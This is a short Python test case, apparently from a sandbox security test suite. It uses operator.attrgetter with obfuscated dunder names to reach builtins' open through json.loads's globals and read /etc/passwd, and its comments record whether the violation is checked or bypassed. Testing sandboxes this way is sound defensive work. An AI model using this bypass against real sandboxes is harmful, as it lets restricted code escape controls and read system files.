# Reads attributes by operator.attrgetter.
# checked: security_violation openat
# bypassed: security_violation openat
import operator, json
u = '_' * 2
operator.attrgetter(u + 'globals' + u)(json.loads)[u + 'builtins' + u]['open']('/etc/passwd')
